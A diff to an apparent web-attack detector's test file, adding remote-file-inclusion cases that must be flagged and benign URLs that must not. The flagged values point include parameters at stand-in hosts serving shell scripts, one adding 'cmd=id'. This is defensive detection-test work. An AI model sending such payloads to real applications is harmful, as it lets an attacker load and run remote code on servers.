@@ -697,7 +697,22 @@ const NOT_LIVING_OFF_THE_LAND: Case[] = [
   ["body:json", JSON.stringify({ text: "node is down, exec failed on the socket" })],
 ];
 
+// Remote file inclusion (rfi.ts): a script's or a text file's URL ended by `?`: rce.
+const REMOTE_INCLUDE: Case[] = [
+  ["query", "page=http://198.51.100.7/shell.txt?"],
+  ["query", "include=http://evil.example/x.php?&cmd=id"],
+  ["query", "mod=HTTPS://evil.example/a/b/c.inc??"],
+  ["body:json", JSON.stringify({ file: "ftp://evil.example/c.php?" })],
+];
+const NOT_REMOTE_INCLUDE: Case[] = [
+  ["query", "redirect_uri=https://app.example.com/callback?"],
+  ["query", "u=https://example.com/index.php?page=1"],
+  ["query", "u=https://example.com.php?"],
+  ["header:referer", "https://example.com/index.php?"],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
+  ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
   ["living-off-the-land", "rce", LIVING_OFF_THE_LAND, NOT_LIVING_OFF_THE_LAND],
   ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
   ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
